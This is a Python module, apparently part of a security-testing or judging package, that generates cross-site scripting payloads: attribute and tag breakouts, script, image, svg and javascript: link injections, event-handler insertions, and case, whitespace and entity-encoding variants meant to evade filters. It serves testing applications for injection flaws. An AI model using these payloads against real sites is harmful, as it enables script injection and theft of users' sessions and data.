"""Cross-site scripting: where the value is by what runs by how it is written."""

import random
from typing import Final

from quintain.judge.payloads.drawing import MANY, Dimension, draw

TEXT: Final[Dimension[str]] = {"": "{}", "behind a word": "x {}", "behind a stray end": "</b>{}"}
"""Between tags."""
DOUBLE_QUOTED: Final[Dimension[str]] = {"": '">{}', "behind a word": 'x" >{}', "tag closed by itself": '"/>{}'}
"""An attribute's value between double quotes, left behind."""
SINGLE_QUOTED: Final[Dimension[str]] = {"": "'>{}", "behind a word": "x' >{}", "tag closed by itself": "'/>{}"}
RAW_TEXT: Final[Dimension[str]] = {"": "</textarea></title>{}", "other case": "</TEXTAREA ></TITLE >{}"}
"""Within a textarea or a title, or neither."""

ELEMENTS: Final[Dimension[str]] = {
    "": "<script>{code}</script>",
    "script in upper case": "<SCRIPT>{code}</SCRIPT>",
    "script with a type": '<script type="text/javascript">{code}</script>',
    "script with a slash": "<script/x>{code}</script>",
    "image": "<img src=x onerror={code}>",
    "image, double quotes": '<img src=x onerror="{code}">',
    "image, apostrophes": "<img src=x onerror='{code}'>",
    "image, slashes for spaces": '<img/src="x"/onerror={code}>',
    "image, newlines for spaces": "<img\nsrc=x\nonerror\n=\n{code}>",
    "image, upper case": "<IMG SRC=x ONERROR={code}>",
    "svg": "<svg onload={code}>",
    "details": "<details open ontoggle={code}>x</details>",
    "field": "<input autofocus onfocus={code}>",
    "video": "<video><source onerror={code}></video>",
    "link": '<a href="javascript:{code}">x</a>',
    "link in mixed case": "<a href=JaVaScRiPt:{code}>x</a>",
    "link with a tab": '<a href="java\tscript:{code}">x</a>',
    "link with references": '<a href="&#106;avascript&colon;{code}">x</a>',
    "frame": '<iframe src="javascript:{code}"></iframe>',
    "button": "<form><button formaction=javascript:{code}>x</button></form>",
}


def scripts(rng: random.Random, code: str, *, spot: Dimension[str] = TEXT, many: int | None = MANY) -> dict[str, str]:
    """Draw values that bring code into a page.

    Args:
        rng: see the package.
        code: JavaScript without spaces, quotes, braces, ``<`` and ``>``: ``steal()``, with a drawn word in it.
        spot: where the value is: `TEXT`, `DOUBLE_QUOTED`, `SINGLE_QUOTED` or `RAW_TEXT`.
        many: see the package.

    """
    return draw(rng, many, lambda start, element: start.format(element.format(code=code)), spot, ELEMENTS)


HANDLERS: Final[Dimension[str]] = {
    "": "onfocus",
    "pointer": "onmouseover",
    "upper case": "ONFOCUS",
    "mixed case": "oNfOcUs",
    "animation": "onanimationstart",
    "click": "onclick",
}


def handlers(rng: random.Random, code: str, *, quote: str = '"', many: int | None = MANY) -> dict[str, str]:
    """Draw values that leave an attribute and add a handler, without ``<`` or ``>``.

    Args:
        rng: see the package.
        code: as in `scripts`.
        quote: what the value is in: ``"``, ``'`` or nothing.
        many: see the package.

    """
    spaces = {"": " ", "newlines": "\n", "tabs": "\t", "slashes": "/"} if quote else {"": " ", "newlines": "\n"}
    ends = {"": f"{code} x={quote}", "quoted": f"{quote}{code}{quote} x={quote}"} if quote else {"": code}

    def make(handler: str, space: str, end: str) -> str:
        return f"x{quote}{space}{handler}={end}"

    return draw(rng, many, make, HANDLERS, spaces, ends)


def links(rng: random.Random, code: str, *, many: int | None = MANY) -> dict[str, str]:
    """Draw addresses that are code: for an ``href`` that a user chooses."""
    schemes = {
        "": "javascript:",
        "upper case": "JAVASCRIPT:",
        "mixed case": "jAvAsCrIpT:",
        "tab within": "java\tscript:",
        "newline within": "java\nscript:",
        "carriage return within": "javascript\r:",
        "space in front": " javascript:",
        "control character in front": "\x01javascript:",
    }
    bodies = {"": code, "a comment before": f"//x%0A{code}", "an address before": f"//reports.lab.test/%0a{code}"}
    return draw(rng, many, lambda scheme, body: scheme + body, schemes, bodies)
